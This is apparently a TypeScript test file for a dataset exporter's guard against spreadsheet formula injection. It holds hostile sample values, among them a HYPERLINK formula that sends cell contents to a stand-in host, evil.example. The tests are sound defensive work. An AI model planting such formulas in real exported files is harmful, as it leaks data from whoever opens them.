import { describe, expect, it } from 'vitest';
import { parseDatasetOptions } from '../../../src/dataset/dataset-options';
import { readDataset } from '../../../src/dataset/import/read-dataset';
import { escapeFormulas, unescapeFormulas } from '../../../src/dataset/tables/formulas';
import { diceOf } from '../../fuzz/dice';
import { memorySource } from '../memory-source';
import { makeZip, table } from '../zip/made-zip';
import { readParquet } from './read-parquet';

const link = '=HYPERLINK("https://evil.example/?"&A1)';
const hostile = [link, '+1', '-1', '@SUM(1)', `"${link}"`, `a|${link}`, `a,${link}`, "'=1", "''=1", '＝1'];

/** What a spreadsheet may run, wherever it splits the text. */
const formulasIn = (text: string) =>
  text.split(/[|,;]/).filter((cell) => /^[" ]*[=+@\t\r＝＋－＠-]/.test(cell));

describe('an escaped text', () => {
  it.each(hostile)('has no formula, and is what it was once it is read: %s', (text) => {
    expect(formulasIn(escapeFormulas(text))).toEqual([]);
    expect(unescapeFormulas(escapeFormulas(text))).toBe(text);
  });

  it('is the same for texts that cannot be taken for formulas', () => {
    for (const text of ['', 'Fox', "'s Hertogenbosch", 'x = y', 'low-poly', "rock 'n' roll", "'"])
      expect(escapeFormulas(text)).toBe(text);
  });

  it('is so for all texts', () => {
    const dice = diceOf(7);
    for (let turn = 0; turn < 20_000; turn += 1) {
      const text = Array.from({ length: dice.roll(8) }, () => dice.pick(`'"=-@|,; a`.split(/(?:)/))).join('');
      expect(formulasIn(escapeFormulas(text)), text).toEqual([]);
      expect(unescapeFormulas(escapeFormulas(text))).toBe(text);
    }
  });
});

describe('a dataset with names and tags that look like formulas', () => {
  const uid = (index: number) => `${index}`.padStart(32, '0');
  const tags = ['+a', '-b', '0', ...hostile].sort();
  const models = hostile.map((name, index) => ({
    uid: uid(index),
    name,
    tags,
    categories: [link],
    likes: ['u1'],
  }));
  const made = (options: object) =>
    makeZip([], { source: memorySource(models), options: parseDatasetOptions(options) });
  const textTables = ['model_urls', 'model_feats', 'model_likes_anon'];

  it('has them as they are by default', async () => {
    const { files } = await made({});
    expect(files.get('data/model_urls.psv')!.toString()).toContain(`\r\n${link}|`);
    expect(files.get('datapackage.json')!.toString()).not.toContain('escaped');
    expect(files.get('README.md')!.toString()).not.toContain('apostrophe');
  });

  it.each(['plain', 'exact'])(
    'has none of them in its text tables if they are escaped, with %s names, and says so',
    async (likesNames) => {
      const zip = await made({ escapeFormulas: true, likesNames });
      for (const name of textTables) {
        expect(table(zip, name).flat().flatMap(formulasIn)).toEqual([]);
      }
      expect(zip.files.get('README.md')!.toString()).toContain('an apostrophe was put');
      expect(JSON.parse(zip.files.get('datapackage.json')!.toString())).toMatchObject({
        likesOut: { escapedFormulas: true },
      });
      expect((await readParquet(zip, 'items')).map(({ name }) => name)).toEqual(hostile);
    },
  );

  it.each([true, false])('is imported with its true names and tags (escaped: %s)', async (escapeFormulas) => {
    const { zip } = await made({ escapeFormulas, files: { parquet: false } });
    const read = await readDataset(new Blob([Uint8Array.from(zip)]));
    expect(read.models.map(({ name }) => name)).toEqual(hostile);
    for (const model of read.models) {
      expect(model.tags?.map(({ name }) => name)).toEqual(tags);
      expect(model.categories?.map(({ name }) => name)).toEqual([link]);
    }
  });
});
